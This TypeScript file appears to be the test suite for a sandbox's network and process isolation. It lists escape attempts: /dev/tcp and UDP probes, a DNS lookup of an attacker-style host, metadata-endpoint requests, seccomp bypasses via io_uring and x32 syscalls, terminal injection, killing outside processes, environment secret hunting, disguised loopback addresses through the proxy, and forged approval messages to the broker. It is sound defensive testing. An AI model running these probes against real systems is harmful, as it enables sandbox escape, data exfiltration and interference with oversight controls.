import { python, SUCCESS, type Attempt } from './attempt';

/** To talk past the gate, to whoever outside would do it, or to other processes. */
export const outAttempts: readonly Attempt[] = [
  {
    name: 'TCP to loopback outside',
    why: 'a network namespace of its own',
    line: `echo hi >/dev/tcp/127.0.0.1/$TCP && echo ${SUCCESS}; echo hi >/dev/tcp/localhost/$TCP && echo ${SUCCESS}; timeout 2 bash -c "echo hi >/dev/tcp/$ADDRESS/$TCP" && echo ${SUCCESS}`,
    outside: true,
  },
  {
    name: 'TCP to any other address, IPv6 too',
    why: 'no route',
    line: `for a in 1.1.1.1 10.0.0.1 169.254.169.254 2606:4700::1111 ::1 fe80::1; do timeout 2 bash -c "exec 3<>/dev/tcp/$a/80" && echo ${SUCCESS} $a; done; ip route 2>/dev/null | grep . && echo ${SUCCESS}; true`,
  },
  {
    name: 'UDP: DNS, HTTP/3, a service on loopback',
    why: 'no route, and nobody listens inside',
    line: python(
      `import time`,
      `for at in (('127.0.0.1', int(os.environ['UDP'])), ('127.0.0.1', 53), ('127.0.0.53', 53), ('1.1.1.1', 53), ('1.1.1.1', 443), (os.environ['ADDRESS'], int(os.environ['UDP']))):`,
      `    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2)`,
      `    try:`,
      `        s.sendto(b'hi', at); print('${SUCCESS}' if s.recv(10) else '')`,
      `    except OSError as e: print(at, e)`,
    ),
    outside: true,
  },
  {
    name: 'names are looked up',
    why: 'no DNS: the gate alone resolves, once a request was let go',
    line: `getent ahosts example.com && echo ${SUCCESS}; getent ahosts secret.attacker.example && echo ${SUCCESS}; true`,
  },
  {
    name: 'raw sockets, packets, ICMP, vsock, Bluetooth, VPNs',
    why: 'no capability, and the system-call filter knows four families alone',
    line: python(
      `for f, t, p in ((2,3,1),(2,3,255),(17,3,768),(17,2,768),(40,1,0),(31,3,1),(38,5,0),(10,3,58),(15,3,2),(29,3,1),(24,2,0)):`,
      `    try:`,
      `        socket.socket(f, t, p); print('${SUCCESS}', f, t, p)`,
      `    except OSError as e: print(f, e)`,
    ),
  },
  {
    name: 'sockets by io_uring, past the filter',
    why: 'the system-call filter refuses io_uring',
    line: python(
      `p = ctypes.create_string_buffer(120)`,
      `if libc.syscall(425, 8, p) >= 0: print('${SUCCESS}')`,
    ),
    outside: true,
  },
  {
    name: 'ping',
    why: 'no route',
    line: `timeout 2 ping -c1 -W1 1.1.1.1 && echo ${SUCCESS}; true`,
  },
  {
    name: 'abstract Unix sockets',
    why: 'they belong to the network namespace',
    line: python(
      `for name in (os.environ['ABSTRACT'], os.environ['ABSTRACT'].ljust(107, '\\0')):`,
      `    try:`,
      `        s = socket.socket(socket.AF_UNIX); s.connect('\\0' + name); print('${SUCCESS}')`,
      `    except OSError as e: print(e)`,
    ),
    outside: true,
  },
  {
    name: 'Unix sockets of the home and of /tmp',
    why: 'nothing stands in their places, or /tmp is a fresh one',
    line: python(
      `for at in (os.environ['SOCK'], os.environ['TMPSOCK']):`,
      `    try:`,
      `        s = socket.socket(socket.AF_UNIX); s.connect(at); print('${SUCCESS}')`,
      `    except OSError as e: print(e)`,
    ),
    outside: true,
  },
  {
    name: 'docker, containerd, podman, D-Bus, systemd, X11, Wayland, tmux, ssh and gpg agents, editors: every socket there is',
    why: '/run and /tmp are fresh; what listens elsewhere is covered',
    line: `find / -xdev -type s 2>/dev/null; for s in /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/dbus/system_bus_socket /run/user/*/bus /run/systemd/private /tmp/.X11-unix/X0 /tmp/tmux-*/default $H/.gnupg/S.gpg-agent /run/user/*/vscode-*.sock /tmp/vscode-*.sock; do [ -S "$s" ] && echo ${SUCCESS} $s; done; true`,
  },
  {
    name: 'variables that lead to agents, displays, editors',
    why: 'the environment is built anew',
    line: `env | grep -E '^(SSH_AUTH_SOCK|DISPLAY|WAYLAND_DISPLAY|DBUS_SESSION_BUS_ADDRESS|TMUX|VSCODE_IPC_HOOK_CLI|VSCODE_GIT_IPC_HANDLE|VSCODE_GIT_IPC_AUTH_TOKEN|GIT_ASKPASS|DOCKER_HOST|GPG_AGENT_INFO|XAUTHORITY|KUBECONFIG)=' && echo ${SUCCESS}; env | grep -a PC-SECRET; true`,
  },
  {
    name: 'signals to processes outside',
    why: 'a PID namespace of its own',
    line: `kill -0 $VICTIM && echo ${SUCCESS}; kill -STOP $BROKER && echo ${SUCCESS}; kill -KILL $VICTIM; pkill -KILL -f pc-victim && echo ${SUCCESS}; ps -e -o args= | grep -v grep | grep pc-victi[m] && echo ${SUCCESS}; true`,
  },
  {
    name: 'typing into the terminal: TIOCSTI, TIOCLINUX',
    why: 'refused by the system-call filter',
    line: python(
      `import fcntl, termios`,
      `for ask in (0x5412, 0x541c, 0x100005412):`,
      `    for path in ('/dev/tty', '/dev/console', '/proc/self/fd/0'):`,
      `        try:`,
      `            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)`,
      `            if libc.ioctl(fd, ctypes.c_ulong(ask), b'\\x07') == 0: print('${SUCCESS}', hex(ask), path)`,
      `        except OSError as e: print(e)`,
    ),
  },
  {
    name: 'other terminals',
    why: 'a /dev/pts of its own',
    line: `for t in /dev/pts/[0-9]* /dev/tty[0-9]* /dev/vcs*; do [ -e "$t" ] && [ "$t" != "$(tty)" ] && echo ${SUCCESS} $t; done; true`,
  },
  {
    name: 'the other calling convention (x32, 32 bit)',
    why: 'refused by the system-call filter',
    line: python(`if libc.syscall(0x40000000 + 39) > 0: print('${SUCCESS}')`),
  },
  {
    name: 'the gate, to an address of this machine',
    why: 'nothing on loopback and no address is reached that no policy names',
    line: `curl -sk -m 5 -x $PROXY http://127.0.0.1:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY http://localhost:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY http://[::1]:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY http://2130706433:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY http://0x7f.1:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY http://0.0.0.0:$TCP/ | grep -a from-outside && echo ${SUCCESS}; curl -sk -m 5 -x $PROXY "http://[::ffff:127.0.0.1]:$TCP/" | grep -a from-outside && echo ${SUCCESS}; true`,
  },
  {
    name: 'CONNECT through the gate to a port that speaks no HTTP',
    why: 'what is not TLS or HTTP inside a tunnel is not carried on',
    line: python(
      `host, port = os.environ['PROXY'].split('//')[1].rstrip('/').split(':')`,
      `for target in ('127.0.0.1:' + os.environ['TCP'], 'localhost:' + os.environ['TCP'], 'localhost:22', '169.254.169.254:80'):`,
      `    s = socket.create_connection((host, int(port)), 2); s.settimeout(2)`,
      `    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())`,
      `    try:`,
      `        said = s.recv(4096)`,
      `        if b' 200 ' in said: s.sendall(b'hello\\r\\n'); said += s.recv(4096)`,
      `        print('${SUCCESS}' if b'from-outside' in said else said[:100])`,
      `    except OSError as e: print(e)`,
    ),
  },
  {
    name: 'another Host than the tunnel was dug for',
    why: 'a request goes where it was judged to go',
    line: python(
      `host, port = os.environ['PROXY'].split('//')[1].rstrip('/').split(':')`,
      `s = socket.create_connection((host, int(port)), 2); s.settimeout(3)`,
      `s.sendall(('GET http://example.invalid/ HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\n\\r\\n' % os.environ['TCP']).encode())`,
      `try:`,
      `    said = s.recv(4096); print('${SUCCESS}' if b'from-outside' in said else said[:100])`,
      `except OSError as e: print(e)`,
    ),
  },
  {
    name: 'NO_PROXY and no proxy at all',
    why: 'without the gate there is no network',
    line: `env -u HTTPS_PROXY -u HTTP_PROXY -u https_proxy -u http_proxy -u ALL_PROXY -u all_proxy NO_PROXY='*' curl -sk -m 3 https://example.com && echo ${SUCCESS}; NO_PROXY='*' no_proxy='*' curl -sk -m 3 http://$ADDRESS:$TCP && echo ${SUCCESS}; true`,
  },
  {
    name: 'forged messages to the broker',
    why: 'there is no message that grants, and who asks is known by the listener',
    line: python(
      `said = b''`,
      `entrance = open(os.environ['H'] + '/.portcullis/run/1').read().split()`,
      `port = int(entrance[1])`,
      `for body in (b'{"type":"decide","choice":"approve"}\\n', b'\\0' * 100, b'GET / HTTP/1.1\\r\\n\\r\\n', ('portcullis/1 %s seal 10\\npid=1\\0\\n' % entrance[2]).encode()):`,
      `    try:`,
      `        s = socket.create_connection(('127.0.0.1', port), 2); s.settimeout(1); s.sendall(body); said = s.recv(4096)`,
      `        print('${SUCCESS}' if b'allow' in said else said)`,
      `    except OSError as e: print(e)`,
    ),
  },
  {
    name: 'another port inside, where an outsider listens',
    why: 'inside nobody listens but the broker and the gate',
    line: python(
      `entrance = open(os.environ['H'] + '/.portcullis/run/1').read().split()`,
      `proxy = int(os.environ['PROXY'].rstrip('/').split(':')[-1])`,
      `rows = [l.split() for l in open('/proc/net/tcp').readlines()[1:]]`,
      `ports = {int(r[1].split(':')[1], 16) for r in rows if r[3] == '0A'}`,
      `if ports - {int(entrance[1]), proxy}: print('${SUCCESS}', ports)`,
    ),
  },
];
